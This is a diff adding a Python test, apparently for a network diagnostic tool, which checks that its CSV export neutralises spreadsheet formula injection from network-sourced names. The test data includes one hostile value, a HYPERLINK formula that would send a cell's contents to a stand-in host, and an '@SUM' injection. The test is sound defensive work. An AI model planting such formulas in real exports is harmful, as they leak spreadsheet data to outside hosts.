@@ -89,3 +89,21 @@ def test_an_error_line_quotes_without_sending(
     err = capsys.readouterr().err
     assert err.count("\n") == 1 and "\x1b" not in err
     assert "no\\x1b[2J\\x0asuch.toml" in err
+
+
+def test_a_csv_cell_from_the_network_is_never_a_formula() -> None:
+    import csv
+    import io
+
+    record = sim_record()
+    address = next(iter(record["names"]))
+    record["names"][address] = '=HYPERLINK("http://x.example/?"&A1,"r1")'
+    record["targets"][0]["host"] = "@SUM(1+1)"
+    rows = list(csv.DictReader(io.StringIO(render_csv(record))))
+    named = [r for r in rows if r["responder"] == address]
+    assert named and all(r["responder_name"].startswith("'=HYPERLINK(") for r in named)
+    assert {r["target"] for r in rows} == {"'@SUM(1+1)"}
+    for row in rows:  # no other text cell starts like a formula; numbers stay numbers
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
+    assert all(float(r["snt"]) >= 0 for r in rows)
